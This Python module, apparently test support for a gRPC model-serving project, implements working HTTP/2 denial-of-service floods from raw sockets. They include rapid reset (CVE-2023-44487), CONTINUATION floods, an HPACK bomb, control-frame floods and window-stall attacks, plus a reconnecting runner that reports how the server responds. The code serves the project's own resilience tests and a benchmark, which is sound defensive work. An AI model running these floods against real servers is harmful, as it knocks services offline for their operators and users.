"""The known HTTP/2 attacks, from raw sockets, against a gRPC port: each runs for a few seconds on
one or two connections (reconnecting when sent away) and reports what the server did to it. Also
the raw client's parts the wire tests share: frames written (`frame`) and read (`split_frames`,
`read_frames`).

Used by the flood tier (tests/serving/test_floods.py) and by bench/security/h2_floods.py, which
prints the table in docs/deploy.md.
"""

from __future__ import annotations

import socket
import struct
import threading
import time
from dataclasses import dataclass, field

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4
PROTOCOL_ERROR, ENHANCE_YOUR_CALM = 1, 11
SETTINGS_ACK = b"\0\0\0\x04\x01\0\0\0\0"
NEXT_TOKEN = "/gpt2serve.v1.Gpt2Serve/NextToken"


def frame(ftype: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((ftype, flags)) + stream_id.to_bytes(4, "big") + payload


Frame = tuple[int, int, int, bytes]  # type, flags, stream id, payload


def split_frames(data: bytes) -> tuple[list[Frame], bytes]:
    """The whole frames at the front of `data`, and the bytes after them (a frame still coming)."""
    frames = []
    while len(data) >= 9 and len(data) >= 9 + (length := int.from_bytes(data[:3], "big")):
        frames.append((data[3], data[4], int.from_bytes(data[5:9], "big") & 0x7FFFFFFF, data[9:9 + length]))
        data = data[9 + length:]
    return frames, data


def read_frames(sock: socket.socket, seconds: float) -> list[Frame]:
    """Every frame the server sends within `seconds`, or until it closes."""
    sock.settimeout(0.2)
    data, frames, deadline = b"", [], time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            chunk = sock.recv(1 << 16)
        except socket.timeout:
            continue
        if not chunk:
            break
        whole, data = split_frames(data + chunk)
        frames += whole
    return frames


def request_headers(authority: str, path: str = NEXT_TOKEN) -> list[tuple[str, str]]:
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers")]


def grpc_message(payload: bytes) -> bytes:
    return b"\0" + len(payload).to_bytes(4, "big") + payload


# A NextToken request for "hi" (field 1, prompt): small, valid, and answered by the engine.
NEXT_TOKEN_REQUEST = grpc_message(b"\x0a\x02hi")


@dataclass
class Outcome:
    """What one attack saw: GOAWAY codes received, connections the server closed, bytes sent."""

    goaways: list[int] = field(default_factory=list)
    resets: int = 0  # RST_STREAMs received
    closed: int = 0
    sent: int = 0
    connections: int = 0

    @property
    def sent_away(self) -> bool:
        return bool(self.goaways) or self.closed > 0


class Attacker:
    """One raw HTTP/2 connection: writes the attack, reads (and parses) whatever comes back in a thread."""

    def __init__(self, host: str, port: int, outcome: Outcome, settings: bytes = b"", read: bool = True):
        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.outcome, self.encoder, self.stream_id, self.alive = outcome, hpack.Encoder(), 1, True
        outcome.connections += 1
        if not read:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + SETTINGS_ACK)
        self.reader = threading.Thread(target=self.read_all, daemon=True) if read else None
        if self.reader is not None:
            self.reader.start()

    def send(self, data: bytes) -> bool:
        if not self.alive:
            return False
        try:
            self.sock.sendall(data)
            self.outcome.sent += len(data)
            return True
        except OSError:  # reset, broken pipe, or a send that stalls (the server stopped reading)
            self.gone()
            return False

    def gone(self) -> None:
        if self.alive:
            self.alive = False
            self.outcome.closed += 1

    def read_all(self) -> None:
        data = b""
        while self.alive:
            try:
                chunk = self.sock.recv(1 << 16)
            except socket.timeout:
                continue
            except OSError:
                break
            if not chunk:
                break
            frames, data = split_frames(data + chunk)
            for ftype, _, _, payload in frames:
                if ftype == GOAWAY:
                    self.outcome.goaways.append(int.from_bytes(payload[4:8], "big"))
                elif ftype == RST_STREAM:
                    self.outcome.resets += 1
        self.gone()

    def open(self, end_stream: bool = False, path: str = NEXT_TOKEN, authority: str = "x") -> bytes:
        """A request's HEADERS frame on the next stream id (the id advanced)."""
        block = self.encoder.encode(request_headers(authority, path))
        sid, self.stream_id = self.stream_id, self.stream_id + 2
        return frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), sid, block)

    def close(self) -> None:
        self.alive = False
        try:
            self.sock.close()
        except OSError:
            pass


# The attacks: each writes one round on a connection; `flood` repeats rounds until time is up -------

def rapid_reset(a: Attacker) -> bytes:  # CVE-2023-44487
    out = []
    for _ in range(50):
        sid = a.stream_id
        out.append(a.open() + frame(DATA, 0, sid, NEXT_TOKEN_REQUEST) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8)))
    return b"".join(out)


def continuation_flood(a: Attacker) -> bytes:
    if not getattr(a, "continuing", False):
        a.continuing = True
        head = a.open()  # HEADERS without END_HEADERS, then CONTINUATIONs that never end it
        return head[:4] + b"\0" + head[5:] + frame(CONTINUATION, 0, a.stream_id - 2) * 500
    return frame(CONTINUATION, 0, a.stream_id - 2) * 1000


def large_continuations(a: Attacker) -> bytes:
    if not getattr(a, "continuing", False):
        a.continuing = True
        head = a.open()
        return head[:4] + b"\0" + head[5:] + frame(CONTINUATION, 0, a.stream_id - 2, b"\x40\x01a\x7f" + b"x" * 16000)
    return frame(CONTINUATION, 0, a.stream_id - 2, b"\x40\x01b\x7f" + b"y" * 16000)


def zero_length_headers(a: Attacker) -> bytes:
    out = []
    for _ in range(500):
        out.append(frame(HEADERS, END_HEADERS, a.stream_id))
        a.stream_id += 2
    return b"".join(out)


def empty_data(a: Attacker) -> bytes:
    prefix = b""
    if not getattr(a, "opened", False):
        a.opened, a.target = True, a.stream_id
        prefix = a.open()
    return prefix + frame(DATA, 0, a.target) * 1000


def priority_flood(a: Attacker) -> bytes:
    return b"".join(frame(PRIORITY, 0, 2 * i + 1, b"\0\0\0\0\x10") for i in range(1000))


def settings_flood(a: Attacker) -> bytes:
    return frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 1 << 16)) * 1000


def ping_flood(a: Attacker) -> bytes:
    return frame(PING, 0, 0, b"12345678") * 1000


def window_update_stream_0(a: Attacker) -> bytes:
    return frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000


def window_update_blocked(a: Attacker) -> bytes:
    """256 calls whose answers wait at window 0, then a stream of 1-byte window updates to each."""
    if not getattr(a, "opened", False):
        a.opened = True
        a.blocked = [a.stream_id + 2 * i for i in range(256)]
        return b"".join(a.open() + frame(DATA, END_STREAM, sid, NEXT_TOKEN_REQUEST) for sid in a.blocked)
    return b"".join(frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 1)) for sid in a.blocked) * 4


def trailers_again(a: Attacker) -> bytes:
    """One call, then its trailers (an empty HEADERS with END_STREAM) again and again."""
    if not getattr(a, "opened", False):
        a.opened, a.target = True, a.stream_id
        return a.open() + frame(DATA, 0, a.target, NEXT_TOKEN_REQUEST) + frame(HEADERS, END_HEADERS | END_STREAM,
                                                                              a.target)
    return frame(HEADERS, END_HEADERS | END_STREAM, a.target) * 20


def reused_stream_ids(a: Attacker) -> bytes:
    block = a.encoder.encode(request_headers("x"))
    return frame(HEADERS, END_HEADERS, 1, block) * 100


def truncated_hpack(a: Attacker) -> bytes:
    sid = a.stream_id
    a.stream_id += 2
    return frame(HEADERS, END_HEADERS | END_STREAM, sid, b"\x00\x85ab")  # a literal cut short


def hpack_bomb(a: Attacker) -> bytes:
    """One 4 KiB header into the table, then HEADERS that name its index 16,000 times (64 MB decoded)."""
    sid = a.stream_id
    a.stream_id += 2
    if not getattr(a, "bombed", False):
        a.bombed = True  # a literal with incremental indexing: name "x-bomb", a 4,000-byte value
        return frame(HEADERS, END_HEADERS, sid, b"\x40\x06x-bomb\x7f\xa1\x1e" + b"b" * 4000)
    return frame(HEADERS, END_HEADERS, sid, b"\xbe" * 16000)  # dynamic index 62


def partial_messages(a: Attacker) -> bytes:
    """Calls whose 4 MiB message never finishes."""
    sid = a.stream_id
    return a.open() + frame(DATA, 0, sid, b"\0" + (4 << 20).to_bytes(4, "big") + b"\0" * 16000)


ATTACKS = {
    "rapid reset": (rapid_reset, 2), "empty CONTINUATION": (continuation_flood, 2),
    "large CONTINUATIONs": (large_continuations, 2), "zero-length HEADERS": (zero_length_headers, 2),
    "empty DATA": (empty_data, 2), "PRIORITY": (priority_flood, 2), "SETTINGS (read)": (settings_flood, 2),
    "PING": (ping_flood, 2), "WINDOW_UPDATE on stream 0": (window_update_stream_0, 2),
    "WINDOW_UPDATE on 256 blocked streams": (window_update_blocked, 1), "trailers again": (trailers_again, 2),
    "reused stream ids": (reused_stream_ids, 2), "truncated HPACK literal": (truncated_hpack, 2),
    "HPACK bomb": (hpack_bomb, 2), "partial 4 MiB messages": (partial_messages, 2),
}


def flood(host: str, port: int, name: str, seconds: float) -> Outcome:
    """Runs attack `name` on its connections for `seconds`, each reconnecting when sent away."""
    attack, connections = ATTACKS[name]
    outcome, deadline = Outcome(), time.monotonic() + seconds
    settings = struct.pack(">HI", 4, 0) if name == "WINDOW_UPDATE on 256 blocked streams" else b""

    def run() -> None:
        attacker = None
        while time.monotonic() < deadline and outcome.connections < 200:
            if attacker is None or not attacker.alive:
                if attacker is not None:
                    attacker.close()
                    time.sleep(0.05)
                try:
                    attacker = Attacker(host, port, outcome, settings)
                except OSError:
                    time.sleep(0.05)
                    continue
            attacker.sock.settimeout(1.0)
            attacker.send(attack(attacker))
        if attacker is not None:
            attacker.close()

    threads = [threading.Thread(target=run, daemon=True) for _ in range(connections)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(seconds + 10)
    return outcome


def unread_answers(host: str, port: int, connections: int, seconds: float) -> Outcome:
    """`connections` connections, each with one call whose answer it gives no window (never reads)."""
    outcome = Outcome()
    attackers = []
    for _ in range(connections):
        try:
            attacker = Attacker(host, port, outcome, struct.pack(">HI", 4, 0))
        except OSError:
            outcome.closed += 1
            continue
        sid = attacker.stream_id
        attacker.send(attacker.open() + frame(DATA, END_STREAM, sid, NEXT_TOKEN_REQUEST))
        attackers.append(attacker)
    time.sleep(seconds)
    for attacker in attackers:
        attacker.close()
    return outcome
